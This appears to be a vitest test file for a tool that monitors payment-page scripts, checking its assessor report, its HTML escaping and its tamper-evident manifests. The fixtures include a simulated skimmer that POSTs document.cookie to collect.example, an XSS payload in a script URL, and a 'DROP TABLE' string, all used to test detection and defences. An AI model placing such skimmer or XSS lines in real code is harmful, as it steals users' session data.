// The assessor report from a scripted month of history, field by field, and its manifest catching an edited report.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { parseConfig } from '../../src/config/config.js';
import { buildReport, largestGap } from '../../src/evidence/report-data.js';
import { reportHtml } from '../../src/evidence/report-html.js';
import { openReport, periodDigest, sealReport } from '../../src/evidence/report-manifest.js';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { APP, INLINE_A, INLINE_B, LIB, PAGE_URL, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { testDatabase } from '../fixtures/test-database.js';
import type { PageCapture } from '../../src/capture/types.js';

const CSP_1 = "default-src 'self'; script-src 'self' https://cdn.example";
const CSP_2 = "default-src 'self'; script-src 'self' https://cdn.example; form-action 'self'";
const LIB_2 = script({ kind: 'external', url: LIB.url, body: 'window.lib={v:"1.2.3"};fetch("https://collect.example/c",{method:"POST",body:document.cookie});' });
const HOSTILE = script({ kind: 'external', url: 'https://cdn.example/x.js?<script>alert(1)</script>', body: 'window.x = 1;' });
const DAY = 86_400_000;

function at(day: number, hour = 8): { startedAt: string; finishedAt: string } {
  const start = Date.parse('2026-10-01T00:00:00.000Z') + (day - 1) * DAY + hour * 3_600_000;
  return { startedAt: new Date(start).toISOString(), finishedAt: new Date(start + 2000).toISOString() };
}

/** October 2026 of one checkout: first baseline, an authorization, a rejected skimmer, a missed week, a CSP change. */
async function scriptedMonth(): Promise<{ store: Store; config: ReturnType<typeof parseConfig>; ids: { rejected: number; approved: number } }> {
  const dir = tempProject('sw-report-');
  const config = parseConfig({ database: await testDatabase(dir), targets: [{ name: 'checkout', url: PAGE_URL }] }, join(dir, 'scriptwarden.yml'));
  const store = await openStore(config.database);
  const scan = async (c: PageCapture) => store.scans.applyPlan(planScan(c, await store.scans.readBaseline(c.target, c.profile), { removalThreshold: 2 }), c.finishedAt);
  const page = (scripts = [APP, LIB, INLINE_A, INLINE_B, HOSTILE], csp = CSP_1, day = 1) =>
    pageCapture(scripts, { ...at(day), securityHeaders: { 'content-security-policy': csp, 'x-frame-options': 'DENY' } });
  await scan(page());
  await store.alerts.approveAll({ by: 'alice', note: 'first baseline reviewed', at: at(1, 10).startedAt });
  const app = (await store.inventory.scripts({})).find((r) => r.url === APP.url)!;
  await store.inventory.authorize([app.scriptId], { justification: 'checkout logic, our own build', by: 'bob', at: at(2).startedAt, selector: 'script' });
  await scan(page(undefined, CSP_1, 7));
  const [skimmer] = (await scan(page([APP, LIB_2, INLINE_A, INLINE_B, HOSTILE], CSP_1, 14))).newAlerts;
  await store.alerts.decide([skimmer!.id], 'rejected', { by: 'carol', note: 'not ours: incident INC-1', at: at(14, 12).startedAt });
  await scan(pageCapture([], { ...at(18), outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'no load in 30 s' } }));
  const [header] = (await scan(page([APP, LIB, INLINE_A, INLINE_B, HOSTILE], CSP_2, 26))).newAlerts;
  await store.alerts.decide([header!.id], 'approved', { by: 'alice', note: 'CSP tightened (change CHG-9)', at: at(27).startedAt });
  return { store, config, ids: { rejected: skimmer!.id, approved: header!.id } };
}

const OCTOBER = { targets: [], from: '2026-10-01T00:00:00.000Z', to: '2026-10-31T23:59:59.999Z', generatedAt: '2026-11-01T09:00:00.000Z' };

describe('assessor report', () => {
  it('lists each script of the payment page with its source, integrity and authorization, bulk-approved ones marked', async () => {
    const { store, config } = await scriptedMonth();
    const report = await buildReport(store, config, OCTOBER);
    assert.equal(report.pages.length, 1);
    const [page] = report.pages;
    assert.deepEqual([page!.target, page!.url, page!.paymentBecause], ['checkout', PAGE_URL, 'a payment form was seen on it']);
    const app = page!.inventory.find((s) => s.url === APP.url)!;
    assert.deepEqual([app.kind, app.party, app.runsIn, app.authorizedBy, app.justification, app.bulkApproved, app.state],
      ['external', 'first', 'page', 'bob', 'checkout logic, our own build', false, 'approved']);
    assert.match(app.sha256!, /^[0-9a-f]{64}$/);
    assert.match(app.sri!, /^sha384-/);
    const inline = page!.inventory.find((s) => s.kind === 'inline')!;
    assert.deepEqual([inline.authorizedBy, inline.justification, inline.bulkApproved], ['alice', 'first baseline reviewed', true]);
    assert.equal(page!.inventory.find((s) => s.url === LIB.url)!.party, 'third');
    assert.equal(report.summary.pages, 1);
    assert.equal(report.summary.scripts, 5);
    assert.equal(report.summary.authorizedShare, 1 / 5, 'only the script authorized on its own counts');
    assert.equal(report.summary.bulkOnly, 4);
    await store.close();
  });

  it('records the evaluations, the largest gap and the missed weekly evaluation, the header history and every alert with its resolution', async () => {
    const { store, config, ids } = await scriptedMonth();
    const report = await buildReport(store, config, OCTOBER);
    const [page] = report.pages;
    const e = page!.evaluation;
    assert.deepEqual([e.scans.length, e.successful, e.failed], [5, 4, 1]);
    assert.deepEqual(e.scans.map((s) => s.status), ['ok', 'ok', 'ok', 'failed', 'ok']);
    assert.equal(e.scans[3]!.errorCode, 'PAGE_TIMEOUT');
    assert.deepEqual(e.largestGap, { ms: 12 * DAY, from: at(14).startedAt, to: at(26).startedAt });
    assert.deepEqual([e.requiredMs, e.requiredFrom, e.met], [7 * DAY, 'weekly (PCI DSS 11.6.1)', false]);
    assert.equal(report.summary.evaluationMet, false);

    const csp = page!.headers.filter((h) => h.header === 'content-security-policy');
    assert.deepEqual(csp.map((h) => [h.value, h.since]), [[CSP_1, at(1).startedAt], [CSP_2, at(26).startedAt]]);
    assert.deepEqual(page!.headers.filter((h) => h.header === 'strict-transport-security').map((h) => h.value), [null]);

    assert.deepEqual(page!.alerts.map((a) => [a.id, a.status, a.decidedBy, a.timeToDecisionMs]), [
      // Detected when the scan that saw it finished, 2 s after it started.
      [ids.rejected, 'rejected', 'carol', 4 * 3_600_000 - 2000],
      [ids.approved, 'approved', 'alice', DAY - 2000],
    ]);
    assert.equal(page!.alerts[0]!.resolution, 'rejected: unauthorized (incident)');
    assert.equal(page!.alerts[0]!.note, 'not ours: incident INC-1');
    assert.equal(page!.alerts[1]!.type, 'header.changed');
    assert.deepEqual([report.summary.alerts, report.summary.openIncidents, report.summary.openAlerts], [2, 1, 0]);

    assert.equal(report.tamperEvidence.verified, true);
    assert.equal(report.tamperEvidence.chainHeadAtStart, null, 'no scan before the period');
    const last = (await store.scans.list({ limit: 1, offset: 0 }))[0]!;
    assert.equal(report.tamperEvidence.chainHeadAtEnd!.scanId, last.id);
    assert.ok(await store.scans.hasChainHead(report.tamperEvidence.chainHeadAtEnd!));
    await store.close();
  });

  it('counts the gaps from the start of the period and to its end', () => {
    assert.deepEqual(largestGap([], '2026-10-01T00:00:00.000Z', '2026-10-08T00:00:00.000Z')!.ms, 7 * DAY);
    assert.deepEqual(largestGap(['2026-10-02T00:00:00.000Z'], '2026-10-01T00:00:00.000Z', '2026-10-12T00:00:00.000Z')!.ms, 10 * DAY);
  });

  it('seals HTML and JSON with a manifest that catches an edited report, and escapes what pages served', async () => {
    const { store, config } = await scriptedMonth();
    const report = await buildReport(store, config, OCTOBER);
    const head = report.tamperEvidence.chainHeadAtEnd;
    const fields = { chainHead: head, periodDigest: periodDigest(report, head), parameters: OCTOBER, generator: 'scriptwarden test' };
    const html = reportHtml(report, 'scriptwarden test');
    assert.ok(!html.includes('<script>alert(1)'), 'a script URL is shown as text');
    assert.ok(html.includes('x.js?&#60;script&#62;alert(1)&#60;/script&#62;'));
    assert.match(html, /Evaluation frequency<\/span><b class="bad">not met/);
    assert.match(html, /<td>2026-10-18<\/td><td class="bad">0<\/td><td class="bad">1<\/td>/, 'the day of the failed scan, in the scans by day');
    assert.match(html, /<td>2026-10-14<\/td><td class="ok">1<\/td><td class="">0<\/td>/);
    const sealed = sealReport('html', Buffer.from(html), fields);
    const opened = openReport(sealed);
    assert.deepEqual([opened.intact, opened.manifest.format, opened.manifest.chainHead], [true, 'html', report.tamperEvidence.chainHeadAtEnd]);
    const edited = Buffer.from(sealed.toString('utf8').replace('not ours: incident INC-1', 'approved vendor change'));
    assert.equal(openReport(edited).intact, false);

    const json = sealReport('json', report, fields);
    const parsed = JSON.parse(json.toString('utf8')) as { report: typeof report };
    assert.deepEqual(parsed.report, JSON.parse(JSON.stringify(report)), 'the JSON carries the whole report');
    assert.equal(openReport(json).intact, true);
    const tampered = JSON.parse(json.toString('utf8')) as { report: typeof report; manifest: unknown };
    tampered.report.summary.openIncidents = 0;
    assert.equal(openReport(Buffer.from(JSON.stringify(tampered, null, 1))).intact, false);
    assert.throws(() => openReport(Buffer.from('<html>no manifest</html>')), /no scriptwarden manifest/);

    // The period's record derived again from the same database is the one sealed; a later scan does not change it.
    assert.equal(periodDigest(await buildReport(store, config, OCTOBER), head), fields.periodDigest);
    await store.scans.applyPlan(planScan(pageCapture([APP, LIB, INLINE_A, INLINE_B, HOSTILE], { ...at(31, 20), securityHeaders: { 'content-security-policy': CSP_2 } }),
      await store.scans.readBaseline('checkout', 'desktop'), { removalThreshold: 2 }), at(31, 20).finishedAt);
    assert.equal(periodDigest(await buildReport(store, config, OCTOBER), head), fields.periodDigest, 'a scan after the report leaves the period as it was');
    // A rewritten evaluation (the failed scan turned into a success) no longer derives to the sealed digest.
    const forged = await buildReport(store, config, OCTOBER);
    forged.pages[0]!.evaluation.scans[3]!.status = 'ok';
    assert.notEqual(periodDigest(forged, head), fields.periodDigest);
    await store.close();
  });
});

describe('report manifest, hostile', () => {
  it('refuses a manifest with a mangled chain head or format as a usage error, not a crash', () => {
    const body = Buffer.from('<html></html>');
    const line = (manifest: unknown) => Buffer.concat([body, Buffer.from(`<!-- scriptwarden-manifest ${JSON.stringify(manifest)} -->\n`)]);
    assert.throws(() => openReport(line({ format: 'html', sha256: 'x', chainHead: { scanId: 'DROP TABLE', hash: 1 } })), /no valid chain head/);
    assert.throws(() => openReport(line({ format: 'docx', sha256: 'x' })), /lacks its format/);
    assert.throws(() => openReport(Buffer.concat([body, Buffer.from('<!-- scriptwarden-manifest {not json -->')])), /not valid JSON/);
  });
});
